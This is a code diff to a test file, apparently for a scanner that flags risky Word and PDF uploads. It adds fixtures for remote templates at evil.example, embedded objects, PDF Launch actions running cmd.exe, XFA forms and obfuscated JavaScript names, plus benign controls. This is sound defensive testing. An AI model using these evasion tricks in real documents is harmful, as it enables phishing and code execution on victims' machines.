@@ -57,6 +57,9 @@ def test_what_is_not_taken_is_told_what_it_is(label: str, piece: int) -> None:
 RELATIONS = "word/_rels/settings.xml.rels"
 TEMPLATE = papers.relation("attachedTemplate", "https://evil.example/a.dotm")
 PICTURE = papers.relation("image", "//evil.example/a.png").replace('"Ext', '"&#69;xt')
+HIDDEN = TEMPLATE.replace("ip Id", 'ip xmlns:Type="a>/hyperlink" Id')
+INSIDE = papers.relation("oleObject", "media/a.png").replace(' TargetMode="External"', "")
+PAGE = '<Types><Override PartName="/word/c.xml" ContentType="text/html"/></Types>'
 ACTS = {
     "macros": papers.docx("word/vbaProject.bin"),
     "objects": papers.docx("word/embeddings/oleObject1.bin"),
@@ -71,6 +74,12 @@ ACTS = {
     "scripts in": papers.pdf(20_000, papers.packed(b"<</S/J#61vaScript/JS 3 0 R>>")),
     "programs": papers.pdf(20_000, b"<</S/Launch/F(cmd.exe)>>"),
     "a PDF with other files": papers.pdf(20_000, b"<</Type/EmbeddedFile/Length 3>>"),
+    "fetches something from": papers.docx(holding={RELATIONS: HIDDEN}),
+    "office file with objects": papers.docx(holding={RELATIONS: INSIDE}),
+    "other files in": papers.docx(holding={"word/[Content_Types].xml": PAGE}),
+    "that reaches for something outside": papers.pdf(20_000, b"<</OpenAction<</S/GoToR\0/F(a)>>>>"),
+    "a form that may act": papers.pdf(20_000, b"<</AcroForm<</XFA 9 0 R>>>>"),
+    "a PDF that cannot be": papers.pdf(20_000, b"<</Type/ObjStm/Filter/ASCIIHexDecode>>stream\n789c>\nendstream "),
 }
 PEACEFUL = [
     papers.docx(holding={RELATIONS: papers.relation("hyperlink", "https://ojk.example")}),
@@ -78,6 +87,7 @@ PEACEFUL = [
     papers.docx("xl/printerSettings/printerSettings1.bin", "docProps/thumbnail.jpeg", "[trash]/0000.dat"),
     papers.pdf(20_000, b"<</OpenAction[3 0 R/XYZ]/Names<</Dests 4 0 R>>/Title(Launching JavaScript)>>"),
     papers.pdf(20_000, papers.packed(b"<</Type/Page>>")),
+    papers.pdf(20_000, b"<</Type/ObjStm>>stream\nsealed\nendstream trailer<</Encrypt 7 0 R>>"),
 ]
 
 
